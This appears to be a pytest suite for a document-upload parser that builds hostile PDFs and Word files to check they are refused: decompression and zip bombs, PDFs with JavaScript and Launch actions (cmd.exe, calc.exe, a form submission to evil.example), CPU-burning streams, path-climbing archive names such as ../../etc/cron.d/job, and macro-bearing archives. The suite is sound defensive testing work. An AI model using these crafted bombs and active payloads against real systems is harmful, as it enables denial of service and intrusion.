"""Uploads are parsed in a confined child process (DESIGN.md idea 4, issue 5 "Shown by").

The hostile corpus is built here, in tmp_path: bombs, encrypted and scripted PDFs,
truncated files, lying page counts, macro-bearing and path-climbing Word archives.
Every refusal is checked for its message, and every bomb for returning promptly.
"""

import io
import random
import struct
import sys
import time
import zipfile
import zlib
from pathlib import Path

import docx
import pytest
from docx.document import Document as WordDocument
from docx.enum.text import WD_BREAK
from docx.oxml import parse_xml
from pypdf import PdfReader, PdfWriter
from reportlab.pdfgen import canvas

from sunshine.documents.filetypes import FileKind, RefusalReason, RefusedFile
from sunshine.documents.parsing import DEFAULT_LIMITS, ParsedDocument, ParseLimits, parse_document

R = RefusalReason
MIB = 1024 * 1024
# Generous: a bomb is typically refused in well under a second (see each test).
BOMB_SECONDS = 30
TOO_COMPLEX = "is too complex for us to process safely: reading it needs more memory or time than we allow."


# --- Files ----------------------------------------------------------------------------


def write(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def reportlab_pdf(*pages: str) -> bytes:
    buffer = io.BytesIO()
    drawing = canvas.Canvas(buffer)
    for text in pages:
        drawing.drawString(72, 720, text)
        drawing.showPage()
    drawing.save()
    return buffer.getvalue()


FONT = b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
HELLO = b"BT /F1 12 Tf 72 720 Td (Hello) Tj ET"


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written by hand: object n is objects[n - 1]; 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def one_page_pdf(
    catalog_extra: bytes = b"",
    page_extra: bytes = b"",
    content: bytes = HELLO,
    content_entries: bytes = b"",
    more_objects: tuple[bytes, ...] = (),
) -> bytes:
    """Catalog (1), page tree (2), one page (3), its content stream (4), then ``more_objects``."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog_extra,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources %s %s >>"
        % (FONT, page_extra),
        stream(content, content_entries),
        *more_objects,
    )


def zlib_of_zeros(size: int) -> bytes:
    """A zlib stream inflating to ``size`` zero bytes, built in milliseconds rather than
    compressed: one fully flushed deflate block of 1 MiB of zeros, repeated."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = compressor.compress(bytes(MIB)) + compressor.flush(zlib.Z_FULL_FLUSH)
    adler32_of_zeros = ((size % 65521) << 16) | 1
    return b"\x78\xda" + block * (size // MIB) + b"\x03\x00" + struct.pack(">I", adler32_of_zeros)


def docx_document(*paragraphs: str) -> WordDocument:
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    return document


def save(document: WordDocument) -> bytes:
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rezip(package: bytes, add: dict[str, bytes], *, drop: str = "", level: int = 6) -> bytes:
    """A copy of a ZIP without member ``drop`` and with ``add`` appended, in order."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(package)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as target,
    ):
        for member in source.infolist():
            if member.filename != drop:
                target.writestr(member.filename, source.read(member))
        for name, data in add.items():
            target.writestr(name, data)
    return out.getvalue()


def refused(path: Path, kind: FileKind, limits: ParseLimits = DEFAULT_LIMITS) -> tuple[RefusedFile, float]:
    started = time.monotonic()
    with pytest.raises(RefusedFile) as caught:
        parse_document(path, kind, limits)
    return caught.value, time.monotonic() - started


# --- Accepted files -------------------------------------------------------------------


def test_a_pdf_gives_its_text_page_by_page(tmp_path):
    path = write(tmp_path, "report.pdf", reportlab_pdf("Case 2026-0042", "Officer notes", "Disposition"))
    parsed = parse_document(path, FileKind.PDF)
    assert parsed.page_count == 3
    assert [page.strip() for page in parsed.pages] == ["Case 2026-0042", "Officer notes", "Disposition"]


def test_a_stored_file_with_a_non_ascii_name_parses(tmp_path):
    path = write(tmp_path, "Zoë’s résumé 東京.pdf", reportlab_pdf("Zoë"))
    assert parse_document(path, FileKind.PDF).pages[0].strip() == "Zoë"


def test_a_word_document_without_page_breaks_is_one_page(tmp_path):
    path = write(tmp_path, "letter.docx", save(docx_document("Dear custodian,", "Please send the log.")))
    assert parse_document(path, FileKind.DOCX) == ParsedDocument(
        page_count=1, pages=["Dear custodian,\nPlease send the log.\n"]
    )


def test_a_word_document_is_split_at_explicit_page_breaks(tmp_path):
    document = docx_document("First page")
    broken = document.add_paragraph()
    broken.add_run().add_break(WD_BREAK.PAGE)
    broken.add_run("Second page")
    document.add_paragraph("After a section break")
    document.add_section()  # a new section starts on a new page
    document.add_paragraph("Third page")
    document.add_paragraph("Fourth page").paragraph_format.page_break_before = True
    parsed = parse_document(write(tmp_path, "long.docx", save(document)), FileKind.DOCX)
    assert parsed.page_count == 4
    assert [page.split() for page in parsed.pages] == [
        ["First", "page"],
        ["Second", "page", "After", "a", "section", "break"],
        ["Third", "page"],
        ["Fourth", "page"],
    ]


def test_word_tables_headers_and_footers_are_read_for_the_scanner(tmp_path):
    document = docx_document("Body text")
    document.add_table(rows=1, cols=2).rows[0].cells[1].text = "SSN 123-45-6789"
    document.sections[0].footer.paragraphs[0].text = "Footer: DOB 01/02/1990"
    parsed = parse_document(write(tmp_path, "table.docx", save(document)), FileKind.DOCX)
    assert parsed.page_count == 1
    assert "SSN 123-45-6789" in parsed.pages[0]
    assert parsed.pages[0].rstrip().endswith("Footer: DOB 01/02/1990")


def test_word_deleted_text_is_read_and_alternate_content_only_once(tmp_path):
    document = docx_document()
    paragraph = document.add_paragraph("Kept ")
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    mc = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    paragraph._p.append(
        parse_xml(f'<w:del {w} w:id="1" w:author="a"><w:r><w:delText>struck</w:delText></w:r></w:del>')
    )
    paragraph._p.append(
        parse_xml(
            f"<mc:AlternateContent {mc} {w}><mc:Choice Requires='wps'><w:r><w:t> box</w:t></w:r></mc:Choice>"
            "<mc:Fallback><w:r><w:t> box</w:t></w:r></mc:Fallback></mc:AlternateContent>"
        )
    )
    parsed = parse_document(write(tmp_path, "tracked.docx", save(document)), FileKind.DOCX)
    assert parsed.pages == ["Kept struck box\n"]


def test_plain_text_is_one_page_without_its_byte_order_mark(tmp_path):
    path = write(tmp_path, "notes.txt", "\ufeffZoë asked for the 東京 file.\n\fPage two?".encode())
    assert parse_document(path, FileKind.TEXT) == ParsedDocument(
        1, ["Zoë asked for the 東京 file.\n\fPage two?"]
    )


@pytest.mark.parametrize("kind", [FileKind.PNG, FileKind.JPEG])
def test_an_image_is_one_page_with_no_text(tmp_path, kind):
    path = write(tmp_path, "scan", b"not opened")
    assert parse_document(path, kind) == ParsedDocument(page_count=1, pages=[""])


def test_text_that_stops_being_utf8_after_the_head_is_refused(tmp_path):
    path = write(tmp_path, "notes.txt", b"a" * 200_000 + "café".encode("cp1252"))
    error, _ = refused(path, FileKind.TEXT)
    assert error.reason_code is R.TEXT_ENCODING
    assert "isn't saved as UTF-8" in str(error)


# --- Hostile PDFs ---------------------------------------------------------------------


@pytest.mark.parametrize("user_password", ["secret", ""], ids=["password", "owner-password-only"])
def test_an_encrypted_pdf_is_refused_asking_for_an_unprotected_copy(tmp_path, user_password):
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(reportlab_pdf("Sealed"))))
    writer.encrypt(user_password=user_password, owner_password="owner")
    buffer = io.BytesIO()
    writer.write(buffer)
    error, _ = refused(write(tmp_path, "sealed.pdf", buffer.getvalue()), FileKind.PDF)
    assert error.reason_code is R.ENCRYPTED
    assert str(error).startswith("This PDF is password-protected, so we can't read it. Upload a copy")


ACTIVE_PDFS = {
    "javascript-open-action": one_page_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "javascript-escaped-name": one_page_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
    "javascript-on-page-open": one_page_pdf(page_extra=b"/AA << /O << /S /JavaScript /JS (x) >> >>"),
    "launch-link": one_page_pdf(
        page_extra=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] "
        b"/A << /S /Launch /F (cmd.exe) >> >>]"
    ),
    "launch-on-document-close": one_page_pdf(b"/AA << /DC << /S /Launch /F (calc.exe) >> >>"),
}


@pytest.mark.parametrize("pdf", ACTIVE_PDFS.values(), ids=ACTIVE_PDFS.keys())
def test_a_pdf_with_javascript_or_a_launch_action_is_refused(tmp_path, pdf):
    error, _ = refused(write(tmp_path, "active.pdf", pdf), FileKind.PDF)
    assert error.reason_code is R.ACTIVE_CONTENT
    assert str(error).startswith(
        "This PDF contains active content (JavaScript, or an action that opens another program)"
    )


def test_javascript_in_the_document_names_tree_is_refused(tmp_path):
    pdf = one_page_pdf(
        b"/Names << /JavaScript << /Names [(init) 5 0 R] >> >>",
        more_objects=(b"<< /S /JavaScript /JS (this.submitForm\\('https://evil.example'\\)) >>",),
    )
    error, _ = refused(write(tmp_path, "form.pdf", pdf), FileKind.PDF)
    assert error.reason_code is R.ACTIVE_CONTENT
    assert error.detail == "JavaScript"
    assert "active content" in str(error)


@pytest.mark.parametrize("keep", [0.5, 0.9, 0.99])
def test_a_truncated_pdf_is_refused_as_damaged(tmp_path, keep):
    pdf = reportlab_pdf("Incomplete download")
    error, _ = refused(write(tmp_path, "cut.pdf", pdf[: int(len(pdf) * keep)]), FileKind.PDF)
    assert error.reason_code is R.DAMAGED
    assert str(error) == (
        "This PDF is damaged or incomplete, so we can't read it. It may not have finished "
        "downloading or copying. Save a fresh copy and try again."
    )


def test_a_pdf_header_followed_by_garbage_is_refused_as_damaged(tmp_path):
    error, _ = refused(write(tmp_path, "junk.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40), FileKind.PDF)
    assert error.reason_code is R.DAMAGED
    assert str(error).startswith("This PDF is damaged or incomplete")


def test_a_pdf_claiming_millions_of_pages_is_refused_without_counting_them(tmp_path):
    pdf = one_page_pdf().replace(b"/Count 1", b"/Count 5000000")
    error, seconds = refused(write(tmp_path, "claims.pdf", pdf), FileKind.PDF)
    assert error.reason_code is R.TOO_MANY_PAGES
    assert str(error).startswith("This PDF has, or says it has, more than 5,000 pages")
    assert seconds < BOMB_SECONDS  # typically 0.2 s


def test_a_pdf_with_more_real_pages_than_allowed_is_refused(tmp_path):
    path = write(tmp_path, "long.pdf", reportlab_pdf(*"abcd"))
    error, _ = refused(path, FileKind.PDF, ParseLimits(max_pages=3))
    assert error.reason_code is R.TOO_MANY_PAGES
    assert "up to 3 pages" in str(error)


def test_a_pdf_decompression_bomb_is_refused_promptly(tmp_path):
    bomb = zlib_of_zeros(512 * MIB)  # 0.5 MB on disk, 512 MB inflated
    path = write(tmp_path, "bomb.pdf", one_page_pdf(content=bomb, content_entries=b"/Filter /FlateDecode"))
    error, seconds = refused(path, FileKind.PDF)
    assert error.reason_code is R.TOO_COMPLEX
    assert str(error).startswith("This PDF " + TOO_COMPLEX)
    assert seconds < BOMB_SECONDS  # typically 0.4 s: pypdf stops at the 50 MB stream limit


def test_the_memory_limit_stops_a_bomb_even_with_pypdf_limits_lifted(tmp_path):
    bomb = zlib_of_zeros(512 * MIB)
    path = write(tmp_path, "bomb.pdf", one_page_pdf(content=bomb, content_entries=b"/Filter /FlateDecode"))
    limits = ParseLimits(max_pdf_stream_bytes=2**40, memory_bytes=256 * MIB)
    error, seconds = refused(path, FileKind.PDF, limits)
    assert error.reason_code is R.TOO_COMPLEX
    assert error.detail == "child ran out of memory"
    assert str(error).startswith("This PDF " + TOO_COMPLEX)
    assert seconds < BOMB_SECONDS  # typically 0.8 s


def cpu_bomb_pdf(pages: int) -> bytes:
    """Tiny on disk; every page replays one content stream of 400,000 text operators."""
    content = zlib.compress(b"BT /F1 12 Tf " + b"(a) Tj " * 400_000 + b"ET")
    kids = b" ".join(b"3 0 R" for _ in range(pages))
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources %s >>" % FONT,
        stream(content, b"/Filter /FlateDecode"),
    )


def test_the_cpu_limit_stops_a_pdf_that_burns_processor_time(tmp_path):
    path = write(tmp_path, "slow.pdf", cpu_bomb_pdf(pages=100))
    error, seconds = refused(path, FileKind.PDF, ParseLimits(cpu_seconds=1))
    assert error.reason_code is R.TOO_COMPLEX
    assert error.detail == "child killed by SIGXCPU"
    assert str(error).startswith("This PDF " + TOO_COMPLEX)
    assert seconds < BOMB_SECONDS  # typically 1.1 s


def test_the_wall_clock_limit_kills_a_slow_child(tmp_path):
    path = write(tmp_path, "slow.pdf", cpu_bomb_pdf(pages=100))
    error, seconds = refused(path, FileKind.PDF, ParseLimits(wall_seconds=0.5))
    assert error.reason_code is R.TOO_COMPLEX
    assert error.detail == "over 0.5 s wall clock"
    assert str(error).startswith("This PDF " + TOO_COMPLEX)
    assert seconds < 5


def test_more_text_than_the_limit_is_refused(tmp_path):
    path = write(tmp_path, "notes.txt", b"word " * 1000)
    error, _ = refused(path, FileKind.TEXT, ParseLimits(max_text_chars=100))
    assert error.reason_code is R.TOO_COMPLEX
    assert str(error).startswith("This text file " + TOO_COMPLEX)


# --- Hostile Word files ---------------------------------------------------------------


@pytest.fixture(scope="module")
def zip_bomb() -> bytes:
    """A real Word document plus a member of 300 MB of zeros (about 1.3 MB compressed)."""
    out = io.BytesIO()
    package = save(docx_document("Looks harmless"))
    with (
        zipfile.ZipFile(io.BytesIO(package)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target,
    ):
        for member in source.infolist():
            target.writestr(member.filename, source.read(member))
        with target.open("word/media/image1.png", "w", force_zip64=True) as bomb:
            for _ in range(300):
                bomb.write(bytes(MIB))
    return out.getvalue()


def test_a_zip_bomb_word_document_is_refused_before_it_is_inflated(tmp_path, zip_bomb):
    error, seconds = refused(write(tmp_path, "bomb.docx", zip_bomb), FileKind.DOCX)
    assert error.reason_code is R.ARCHIVE_BOMB
    assert str(error) == (
        "This Word document expands to far more data than its size suggests (a 'zip bomb'), so we "
        "can't open it safely. If it is a genuine document, save it as PDF and try again."
    )
    assert seconds < BOMB_SECONDS  # typically 0.2 s


def test_a_word_member_compressed_beyond_the_ratio_is_refused(tmp_path):
    package = rezip(save(docx_document("x")), {"word/media/image1.png": bytes(20 * MIB)}, level=9)
    error, _ = refused(write(tmp_path, "dense.docx", package), FileKind.DOCX)
    assert error.reason_code is R.ARCHIVE_BOMB
    assert "compressed" in error.detail
    assert "(a 'zip bomb')" in str(error)


def test_a_word_document_with_too_many_members_is_refused(tmp_path):
    package = rezip(save(docx_document("x")), {f"word/media/{n}.bin": b"" for n in range(200)})
    error, _ = refused(
        write(tmp_path, "many.docx", package), FileKind.DOCX, ParseLimits(max_docx_members=100)
    )
    assert error.reason_code is R.ARCHIVE_BOMB
    assert "(a 'zip bomb')" in str(error)


@pytest.mark.parametrize(
    "name", ["../../etc/cron.d/job", "/etc/passwd", "C:/Windows/evil.dll", "word\\..\\..\\x"]
)
def test_a_word_member_whose_path_escapes_is_refused_as_damaged(tmp_path, name):
    package = rezip(save(docx_document("x")), {name: b"payload"})
    error, _ = refused(write(tmp_path, "climb.docx", package), FileKind.DOCX)
    assert error.reason_code is R.DAMAGED
    assert str(error).startswith("This Word document is damaged or incomplete")


def test_macros_the_head_could_not_show_are_found_before_parsing(tmp_path):
    # The VBA project sits after 1 MB of image, far past what sniff looked at.
    padding = {"word/media/image1.jpeg": random.Random(5).randbytes(MIB)}
    package = rezip(save(docx_document("x")), padding | {"word/vbaProject.bin": b"macro"})
    error, _ = refused(write(tmp_path, "late.docx", package), FileKind.DOCX)
    assert error.reason_code is R.MACROS
    assert str(error).startswith("This Word document contains macros")


def test_a_truncated_word_document_is_refused_as_damaged(tmp_path):
    package = save(docx_document("x"))
    error, _ = refused(write(tmp_path, "cut.docx", package[: len(package) // 2]), FileKind.DOCX)
    assert error.reason_code is R.DAMAGED
    assert str(error).startswith("This Word document is damaged or incomplete")


def test_a_zip_without_a_word_document_inside_is_refused(tmp_path):
    package = rezip(save(docx_document("x")), {}, drop="word/document.xml")
    error, _ = refused(write(tmp_path, "hollow.docx", package), FileKind.DOCX)
    assert error.reason_code is R.DAMAGED
    assert str(error).startswith("This Word document is damaged or incomplete")


# --- The child process ----------------------------------------------------------------


def test_a_child_that_cannot_run_is_an_error_not_a_refusal(tmp_path, monkeypatch):
    monkeypatch.setattr(sys, "executable", "/bin/false")
    with pytest.raises(RuntimeError, match="document parser failed"):
        parse_document(write(tmp_path, "notes.txt", b"hello"), FileKind.TEXT)


CHILD_MODULES = {
    "sunshine.documents.docx_checks",
    "sunshine.documents.docx_reader",
    "sunshine.documents.filetypes",
    "sunshine.documents.parse_child",
    "sunshine.documents.parsing",
    "sunshine.documents.pdf_reader",
    "sunshine.documents.refusals",
}


@pytest.mark.parametrize("kind", [FileKind.PDF, FileKind.DOCX])
def test_the_child_imports_only_the_document_modules_never_flask_or_the_database(tmp_path, monkeypatch, kind):
    # Run the real child under -X importtime, which logs every module it imports.
    log = tmp_path / "imports.log"
    wrapper = tmp_path / "python"
    wrapper.write_text(f'#!/bin/sh\nexec "{sys.executable}" -X importtime "$@" 2>>"{log}"\n')
    wrapper.chmod(0o755)
    monkeypatch.setattr(sys, "executable", str(wrapper))
    upload = reportlab_pdf("Hello") if kind is FileKind.PDF else save(docx_document("Hello"))
    parsed = parse_document(write(tmp_path, f"upload.{kind}", upload), kind)
    assert parsed.pages[0].strip() == "Hello"
    lines = log.read_text().splitlines()
    imported = {line.rpartition("|")[2].strip() for line in lines if line.startswith("import time:")}
    assert {"pypdf" if kind is FileKind.PDF else "docx"} <= imported  # the log covers the parse
    assert not [name for name in imported if name.startswith(("flask", "sqlalchemy", "werkzeug"))]
    # Neither sunshine's nor sunshine.documents' __init__ runs: the bootstrap stands in for them.
    assert {name for name in imported if name.startswith("sunshine")} == CHILD_MODULES


def test_a_missing_file_is_an_error_not_a_refusal(tmp_path):
    with pytest.raises(FileNotFoundError):
        parse_document(tmp_path / "gone.pdf", FileKind.PDF)


def test_limits_are_a_frozen_value():
    assert DEFAULT_LIMITS.memory_bytes == 512 * MIB
    assert DEFAULT_LIMITS.max_pages == 5_000
    with pytest.raises(AttributeError):
        DEFAULT_LIMITS.max_pages = 10  # type: ignore[misc]


def test_limits_must_be_positive():
    with pytest.raises(ValueError, match="cpu_seconds must be positive"):
        ParseLimits(cpu_seconds=0)
